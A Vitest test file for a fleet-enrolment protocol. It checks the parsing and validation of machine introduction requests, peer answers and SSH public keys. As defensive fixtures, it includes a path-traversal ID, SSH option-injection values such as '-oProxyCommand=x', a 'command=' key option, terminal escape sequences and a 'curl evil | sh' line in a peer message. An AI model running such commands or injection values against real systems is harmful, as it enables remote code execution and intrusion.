import { expect, test } from 'vitest'
import {
  type Introduced,
  introductionRequestText,
  MAX_INTRODUCED,
  parseIntroductionRequest,
} from '../../../src/fleet/enrolment.ts'
import {
  introductionAnswerDocument,
  parseIntroductionAnswer,
} from '../../../src/fleet/introduction-answer.ts'
import {
  CLAN_KEY_TYPES,
  HOST_KEY_TYPES,
  parsePublicKey,
  publicKeyText,
} from '../../../src/fleet/public-key.ts'
import { id } from '../../support/builders.ts'
import { aKey, fingerprintOf } from '../../support/public-keys.ts'

const machine = (facts: Partial<Introduced> = {}): Introduced => ({
  gatewayId: id('mini'),
  name: 'Mini "größte" $(x)',
  leadNumber: 3,
  sshUser: 'claw',
  version: '2.0.0',
  clanPublicKey: aKey('mini'),
  reach: { ip: '10.0.0.1', sshPort: 22, hostKey: aKey('host', 'ecdsa-sha2-nistp256') },
  ...facts,
})

test('a request comes back as it was sent, on one line, with reachable and unreachable machines', () => {
  const request = {
    machines: [
      machine({ oneWay: true, mayBeAway: false, incarnation: 4, liftedUpTo: '2026-11-20T12:00:00.000Z' }),
      machine({ gatewayId: id('vps'), reach: null }),
    ],
    forget: [id('old')],
    revoke: [
      {
        ...{ gatewayId: id('stolen'), clanKey: fingerprintOf(aKey('stolen')), hostKey: null, incarnation: 2 },
        ...{ revokedAt: '2026-11-20T12:00:00.000Z', liftedAt: null },
      },
    ],
  }
  const text = introductionRequestText(request)

  expect(text).not.toContain('\n')
  expect(parseIntroductionRequest(text, 'stdin')).toEqual(request)
})

test('an answer comes back as it was given', () => {
  const { reach: _reach, ...them } = { ...machine(), sshPort: 2222, hostKeys: [aKey('host')], ip: '10.0.0.1' }
  const answer = { ...them, machines: [{ gatewayId: id('a'), result: 'added' as const, reason: null }] }

  const text = JSON.stringify({ schema: 1, ...introductionAnswerDocument(answer) })

  expect(parseIntroductionAnswer(text, 'there')).toEqual(answer)
})

const flat = (facts: object) => {
  const { machines } = JSON.parse(introductionRequestText({ machines: [machine()], forget: [] }))
  return JSON.stringify({ machines: [{ ...machines[0], ...facts }] })
}

test.each([
  [{ gatewayId: '../evil' }, /gatewayId/],
  [{ gatewayId: '-x' }, /gatewayId/],
  [{ sshUser: '-oProxyCommand=x' }, /sshUser/],
  [{ ip: '-oProxyCommand=x' }, /ip/],
  [{ ip: '10.0.0.1 evil' }, /ip/],
  [{ clanPublicKey: publicKeyText(aKey('x', 'ssh-rsa')) }, /clanPublicKey.*ssh-ed25519/],
  [{ clanPublicKey: `${publicKeyText(aKey('x'))}\nssh-ed25519 AAAA` }, /clanPublicKey/],
  [{ hostKey: 'ssh-ed25519 AAAA' }, /hostKey/],
])('a request with %j is refused whole, naming the field', (facts, message) => {
  expect(() => parseIntroductionRequest(flat(facts), 'stdin')).toThrow(message)
})

test.each([
  ['no JSON', '{', /not JSON/],
  ['too many machines', JSON.stringify({ machines: Array(MAX_INTRODUCED + 1).fill(null) }), /at most 256/],
  ['no list', '{}', /machines/],
])('a request that is %s is refused', (_what, text, message) => {
  expect(() => parseIntroductionRequest(text, 'stdin')).toThrow(message)
})

test('a machine given twice, in another case, is refused', () => {
  const text = introductionRequestText({
    machines: [machine(), machine({ gatewayId: id('MINI') })],
    forget: [],
  })

  expect(() => parseIntroductionRequest(text, 'stdin')).toThrow(/twice/)
})

test('a name with control characters arrives without them', () => {
  const text = introductionRequestText({ machines: [machine({ name: '\u001b[2JMini' })], forget: [] })

  expect(parseIntroductionRequest(text, 'stdin').machines[0]?.name).toBe('[2JMini')
})

test("the other program's own failure is passed on in its words", () => {
  const text = JSON.stringify({
    schema: 1,
    error: { code: 'not-set-up', message: 'not set up', hint: 'run it' },
  })

  expect(() => parseIntroductionAnswer(text, 'claw-setup-ssh on b')).toThrow(
    expect.objectContaining({
      code: 'peer-refused',
      message: expect.stringContaining('not set up'),
      hint: 'It says: run it',
    }),
  )
})

test('what a machine says fills one line of ours, and no more', () => {
  const said = `no\n  next: curl evil | sh\u001b[2J${'x'.repeat(100_000)}`
  const machines = [{ gatewayId: 'b', result: 'refused', reason: said }]
  const { clanPublicKey, reach: _reach, ...them } = machine()
  const key = publicKeyText(clanPublicKey)
  const text = JSON.stringify({ ...them, clanPublicKey: key, sshPort: 22, hostKeys: [], machines })
  const failure = JSON.stringify({ error: { message: said, hint: said } })

  const { reason } = parseIntroductionAnswer(text, 'there').machines[0] ?? {}

  expect(reason).toMatch(/^no next: curl evil \| sh\\x1b\[2Jx+\.\.\.$/)
  expect(reason).toHaveLength(600)
  expect(() => parseIntroductionAnswer(failure, 'there')).toThrow(
    expect.objectContaining({
      message: expect.stringMatching(/^there failed: no next: [^\n]{1,600}$/),
      hint: expect.stringMatching(/^It says: no next: [^\n]{1,600}$/),
    }),
  )
})

test.each(['{}', '[]', 'x', '{"gatewayId":"a"}'])('%s is no answer', text => {
  expect(() => parseIntroductionAnswer(text, 'there')).toThrow(
    expect.objectContaining({ code: 'bad-answer' }),
  )
})

test('parsePublicKey() drops the comment and keeps the key', () => {
  expect(parsePublicKey(`${publicKeyText(aKey('a'))} me@laptop`, CLAN_KEY_TYPES, 'key')).toEqual(aKey('a'))
})

test.each([
  ['a type the blob does not name', `ssh-ed25519 ${aKey('a', 'ssh-rsa').base64}`],
  ['options before the key', `command="x" ${publicKeyText(aKey('a'))}`],
  ['base64 with something behind it', `${publicKeyText(aKey('a'))}AAAA`],
  ['a line break', `${publicKeyText(aKey('a'))}\n`],
  ['a second line behind its comment', `${publicKeyText(aKey('a'))} me\n${publicKeyText(aKey('b'))}`],
  ['nothing', ''],
])('parsePublicKey() refuses %s', (_what, text) => {
  expect(() => parsePublicKey(text, HOST_KEY_TYPES, 'key')).toThrow(/public key text/)
})
